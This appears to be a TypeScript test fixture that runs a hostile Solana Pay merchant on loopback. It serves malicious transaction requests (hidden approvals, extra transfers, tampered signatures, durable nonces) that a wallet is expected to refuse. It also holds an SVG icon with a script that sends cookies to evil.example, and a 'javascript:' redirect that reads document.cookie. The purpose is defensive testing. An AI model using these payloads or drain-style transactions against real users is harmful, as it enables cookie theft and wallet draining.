/**
 * Hostile Solana Pay merchants for tests (issue 34): one transaction-request server on
 * 127.0.0.1 whose path picks what it does wrong, each one of the refusal classes the wallet
 * must say in words with nothing signed. Its transactions are built with web3.js and
 * spl-token against the test's sandbox, paying USDC into `payee`'s associated token account.
 */
import { createServer, type Server, type ServerResponse } from 'node:http';
import { closerOf, listenOnLoopback } from './loopback-server';
import type { AddressInfo } from 'node:net';
import {
  createApproveCheckedInstruction,
  createTransferCheckedInstruction,
  getAssociatedTokenAddressSync,
} from '@solana/spl-token';
import {
  Connection,
  Keypair,
  PublicKey,
  SystemProgram,
  Transaction,
  TransactionInstruction,
} from '@solana/web3.js';

export const HOSTILE_MODES = [
  'extra-sol',
  'approval',
  'other-signer',
  'bad-signature',
  'durable-nonce',
  'label-claim',
  'svg-icon',
  'too-large',
  'too-slow',
  'bad-redirect',
  'error-message',
  /** Not hostile: a valid co-signature by the merchant's key, which the wallet must keep. */
  'cosigned',
  // The merchant pays the network fee and signed first (issue 34 point 2), and yet:
  /** its signature does not hold over the bytes sent; */
  'fee-bad-signature',
  /** a third signer is still missing; */
  'fee-other-signer',
  /** the transaction advances a durable nonce. */
  'fee-durable-nonce',
] as const;
export type HostileMode = (typeof HOSTILE_MODES)[number];

const USDC = new PublicKey('EPjFWdd5AufqSSqeM2qN1xzybapC8G4wEGGkZwyTDt1v');
const MEMO = new PublicKey('MemoSq4gqABAXKb96qnH8TysNcWxMyWCqXgDLGmfcHr');
/** The hostile merchant's long error (SPEC1.1.md: at least 80 characters must be shown). */
export const LONG_ERROR =
  'This shop only accepts payment between nine and five on weekdays, and it is not that time now, so come back later please.';
/** A script inside an SVG icon: the logo checker must never hand it to the page. */
export const HOSTILE_SVG =
  '<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("https://evil.example/"+document.cookie)</script><circle r="8"/></svg>';

export interface HostileMerchant {
  /** `solana:` link of a mode. */
  link(mode: HostileMode): string;
  /** The third party the extra transfers and approvals favour. */
  stranger: PublicKey;
  close(): Promise<void>;
}

function json(res: ServerResponse, status: number, body: unknown): void {
  const text = JSON.stringify(body);
  res.writeHead(status, { 'content-type': 'application/json' });
  res.end(text);
}

/** Starts the hostile merchant, paying `payee`'s USDC account on the sandbox at `rpcUrl`. */
export async function startHostileMerchant(
  rpcUrl: string,
  payee: string,
): Promise<HostileMerchant> {
  const connection = new Connection(rpcUrl, 'confirmed');
  const stranger = Keypair.generate();
  const payeeAta = getAssociatedTokenAddressSync(USDC, new PublicKey(payee), true);

  async function transaction(mode: HostileMode, account: PublicKey): Promise<string> {
    const source = getAssociatedTokenAddressSync(USDC, account);
    const pay = (amount: bigint) =>
      createTransferCheckedInstruction(source, USDC, payeeAta, account, amount, 6);
    const { blockhash } = await connection.getLatestBlockhash('confirmed');
    if (mode.startsWith('fee-')) return merchantPaysFee(mode, account, pay, blockhash);
    const tx = new Transaction({ feePayer: account, recentBlockhash: blockhash });
    if (mode === 'durable-nonce') {
      tx.add(
        SystemProgram.nonceAdvance({
          noncePubkey: Keypair.generate().publicKey,
          authorizedPubkey: account,
        }),
      );
    }
    if (mode === 'extra-sol') {
      tx.add(
        SystemProgram.transfer({
          fromPubkey: account,
          toPubkey: stranger.publicKey,
          lamports: 100_000_000,
        }),
      );
    }
    if (mode === 'approval') {
      tx.add(
        createApproveCheckedInstruction(
          source,
          USDC,
          stranger.publicKey,
          account,
          1_000_000_000n,
          6,
        ),
      );
    }
    if (mode === 'other-signer' || mode === 'bad-signature' || mode === 'cosigned') {
      // A memo the stranger must sign: a signature besides the person's.
      tx.add(
        new TransactionInstruction({
          programId: MEMO,
          keys: [{ pubkey: stranger.publicKey, isSigner: true, isWritable: false }],
          data: Buffer.from('co-signed'),
        }),
      );
    }
    tx.add(pay(mode === 'label-claim' ? 5_000_000n : 1_000_000n));
    if (mode === 'bad-signature') {
      // Signed over 1 USDC, then the amount changed to 900 USDC: the signature no longer holds.
      tx.partialSign(stranger);
      const signature = tx.signatures.find((s) => s.publicKey.equals(stranger.publicKey))!;
      const changed = new Transaction({ feePayer: account, recentBlockhash: blockhash });
      changed.add(tx.instructions[0]!, pay(900_000_000n));
      changed.setSigners(account, stranger.publicKey);
      changed.addSignature(stranger.publicKey, signature.signature!);
      return changed
        .serialize({ requireAllSignatures: false, verifySignatures: false })
        .toString('base64');
    }
    // The merchant's valid co-signature over these exact bytes; only the person's is left.
    if (mode === 'cosigned') tx.partialSign(stranger);
    return tx
      .serialize({ requireAllSignatures: false, verifySignatures: false })
      .toString('base64');
  }

  /** The stranger as fee payer, signed first, with the mode's flaw. */
  function merchantPaysFee(
    mode: HostileMode,
    account: PublicKey,
    pay: (amount: bigint) => TransactionInstruction,
    blockhash: string,
  ): string {
    const tx = new Transaction({ feePayer: stranger.publicKey, recentBlockhash: blockhash });
    if (mode === 'fee-durable-nonce') {
      tx.add(
        SystemProgram.nonceAdvance({
          noncePubkey: Keypair.generate().publicKey,
          authorizedPubkey: stranger.publicKey,
        }),
      );
    }
    if (mode === 'fee-other-signer') {
      tx.add(
        new TransactionInstruction({
          programId: MEMO,
          keys: [{ pubkey: Keypair.generate().publicKey, isSigner: true, isWritable: false }],
          data: Buffer.from('a third signer'),
        }),
      );
    }
    tx.add(pay(1_000_000n));
    tx.partialSign(stranger);
    if (mode === 'fee-bad-signature') {
      // Signed over 1 USDC, then the amount changed to 900 USDC: the fee payer's signature fails.
      const signature = tx.signatures[0]!.signature!;
      const changed = new Transaction({ feePayer: stranger.publicKey, recentBlockhash: blockhash });
      changed.add(pay(900_000_000n));
      changed.setSigners(stranger.publicKey, account);
      changed.addSignature(stranger.publicKey, signature);
      return changed
        .serialize({ requireAllSignatures: false, verifySignatures: false })
        .toString('base64');
    }
    return tx
      .serialize({ requireAllSignatures: false, verifySignatures: false })
      .toString('base64');
  }

  const server: Server = createServer((req, res) => {
    const url = new URL(req.url ?? '/', 'http://127.0.0.1');
    const mode = url.pathname.slice(1) as HostileMode;
    const origin = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
    if (url.pathname === '/icon.svg') {
      res.writeHead(200, { 'content-type': 'image/svg+xml' });
      res.end(HOSTILE_SVG);
      return;
    }
    if (req.method === 'GET') {
      json(res, 200, {
        label: mode === 'label-claim' ? 'Hostile Coffee: 1.00 USDC' : 'Hostile Coffee',
        icon: mode === 'svg-icon' ? `${origin}/icon.svg` : `${origin}/none.png`,
      });
      return;
    }
    const chunks: Buffer[] = [];
    req.on('data', (chunk: Buffer) => chunks.push(chunk));
    req.on('end', () => {
      const { account } = JSON.parse(Buffer.concat(chunks).toString('utf8')) as {
        account: string;
      };
      if (mode === 'too-slow') return; // never answers
      if (mode === 'too-large') {
        json(res, 200, { message: 'x'.repeat(100_000), transaction: '' });
        return;
      }
      if (mode === 'error-message') {
        json(res, 403, { message: LONG_ERROR });
        return;
      }
      transaction(mode, new PublicKey(account)).then(
        (tx) =>
          json(res, 200, {
            transaction: tx,
            ...(mode === 'bad-redirect' ? { redirect: 'javascript:alert(document.cookie)' } : {}),
          }),
        (error: unknown) => json(res, 500, { message: String(error) }),
      );
    });
  });
  const close = closerOf(server);
  const port = await listenOnLoopback(server);
  return {
    link: (mode) => `solana:http://127.0.0.1:${port}/${mode}`,
    stranger: stranger.publicKey,
    close,
  };
}
